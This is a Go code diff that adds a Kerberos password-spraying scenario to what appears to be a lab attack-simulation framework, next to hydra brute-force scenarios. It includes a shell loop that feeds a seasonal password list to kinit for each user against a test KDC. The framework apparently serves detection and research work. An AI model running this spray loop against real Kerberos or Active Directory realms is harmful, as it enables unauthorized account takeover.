@@ -4,6 +4,7 @@ import (
 	"context"
 	"fmt"
 	"net/netip"
+	"slices"
 	"strings"
 	"time"
 )
@@ -30,6 +31,7 @@ func init() {
 		bruteScenario("bruteforce-smb", "bruteforce.smb", hostServer, "smb://%s",
 			"hydra guesses SMB passwords of the server's Samba (hydra's smb module: SMB1 with NTLM, one connection per try)."),
 		mysqlBrute(),
+		kerberosSpray(),
 		bruteScenario("bruteforce-rdp", "bruteforce.rdp", hostServer, "rdp://%s",
 			"hydra tries RDP logins on the server's xrdp (no NLA: xrdp decides on its login screen, so hydra's verdicts mean nothing, but every try is a real RDP connection over TLS)."),
 		&Scenario{
@@ -138,6 +140,36 @@ func mysqlBrute() *Scenario {
 	s.Tools = append(s.Tools, "mariadbd", "mariadb-install-db")
 	s.services = []service{{hostServer, "mariadbd", mariadbConfig, []int{3306}, nil}}
 	return s
+}
+
+// kerberosSpray is password spraying against a KDC, as against an Active
+// Directory: MIT's kinit, run once per user and password, asks srv's KDC
+// for a ticket; each wrong password is refused in pre-authentication and
+// each user the realm does not have is unknown to it.
+func kerberosSpray() *Scenario {
+	passwords := append(slices.Clone(sprayPasswords), "Summer2026!")
+	return &Scenario{
+		Name: "kerberos-spray", Difficulty: Medium,
+		Description: fmt.Sprintf("Password spraying against the KDC of realm %s on srv: kinit tries %d passwords (%s) for each of %d users (%s), "+
+			"one request after the other; the realm has %s.", krbRealm, len(passwords), strings.Join(passwords, ", "),
+			len(bruteUsers), strings.Join(bruteUsers, ", "), strings.Join(krbPrincipals, ", ")),
+		Tools: []string{"kinit", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"bruteforce.kerberos"}, MITRE: []string{"T1110.003"},
+		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 20 * time.Second,
+		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
+		attack: func(a *attackRun) error {
+			conf, err := krb5Client(a.w)
+			if err != nil {
+				return err
+			}
+			pw, err := a.w.write("words/kerberos-passwords.txt", strings.Join(passwords, "\n")+"\n", 0o644)
+			if err != nil {
+				return err
+			}
+			script := fmt.Sprintf("for p in $(cat %s); do for u in $(cat %s); do echo \"$p\" | KRB5_CONFIG=%s kinit \"$u@%s\" >/dev/null 2>&1; done; done; true",
+				pw, a.w.path("words/users.txt"), conf, krbRealm)
+			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
+		},
+	}
 }
 
 func fmtURL(format string, h Host) string { return fmt.Sprintf(format, h.IPv4()) }
